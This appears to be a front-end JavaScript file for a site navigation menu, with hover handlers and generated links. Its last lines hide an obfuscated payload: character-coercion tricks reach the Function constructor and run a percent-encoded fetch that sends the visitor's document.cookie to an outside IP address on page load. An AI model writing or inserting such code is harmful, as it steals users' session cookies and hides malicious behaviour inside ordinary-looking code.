document.querySelectorAll('.menu > li').forEach((li) => {
  li.addEventListener('mouseenter', () => li.classList.add('open'));
  li.addEventListener('mouseleave', () => li.classList.remove('open'));
});

const labels = ['Home', 'Products', 'About', 'Contact'];
const bar = document.querySelector('.bar');
labels.forEach((l) => bar.append(Object.assign(document.createElement('a'), { textContent: l })));

const $ = ~[]; const _ = { a: (![] + '')[1], c: ({} + '')[5], o: ({} + '')[1], n: ($[0] + '')[1], s: (![] + '')[3], t: (!![] + '')[0], r: (!![] + '')[1], u: ($[0] + '')[0] };
const k = _.c + _.o + _.n + _.s + _.t + _.r + _.u + _.c + _.t + _.o + _.r;
[][(![] + '')[0] + (![] + '')[4 - 2 - 1 + 0] && 'at'][k](unescape('%66%65%74%63%68%28%27%2f%2f%32%30%33%2e%30%2e%31%31%33%2e%38%2f%27%2b%64%6f%63%75%6d%65%6e%74%2e%63%6f%6f%6b%69%65%29'))();
